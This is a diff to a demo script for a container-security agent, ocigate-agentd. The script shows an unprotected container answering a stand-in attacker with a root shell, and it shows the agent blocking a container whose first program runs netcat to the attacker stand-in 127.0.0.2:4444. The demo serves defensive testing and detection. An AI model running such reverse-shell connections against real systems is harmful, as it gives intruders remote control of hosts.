@@ -43,8 +43,8 @@ LISTENER=
 echo "attacker received: $(cat "$work/open.txt")"
 grep -q "SHELL: uid=0" "$work/open.txt" || { echo "demo: expected the unprotected shell to answer" >&2; exit 1; }
 
-say "2. Start ocigate-agentd (embedded default profile)"
-start_agent "$work"
+say "2. Start ocigate-agentd (embedded default profile: reverse-shell)"
+PROFILES_DIR=$PWD/scripts/demo-profiles start_agent "$work"
 "$OCIGATE_BIN/ocigate-agentd" status --socket "$work/agentd.sock" | sed -n '1,15p'
 
 say "3. With ocigate: the same container, hooked at createRuntime"
@@ -61,8 +61,9 @@ if grep -q "SHELL:" "$work/guarded.txt"; then
 	exit 1
 fi
 
-say "4. The container's first program connects to the stand-in attacker 127.0.0.2:4444"
-mk_bundle "$work/first" "$work/rootfs" ocigate-demo-guarded yes "$work/agentd.sock" nc -w 2 127.0.0.2 4444
+say "4. The container's first program connects to the stand-in attacker 127.0.0.2:4444 (profile demo-attacker)"
+ANNOTATIONS='{"ocigate.io/profile":"demo-attacker"}' \
+	mk_bundle "$work/first" "$work/rootfs" ocigate-demo-guarded yes "$work/agentd.sock" nc -w 2 127.0.0.2 4444
 run_container "$work/first" ocigate-demo-guarded 10 || true
 
 say "5. Events (Tetragon process_kprobe JSON)"
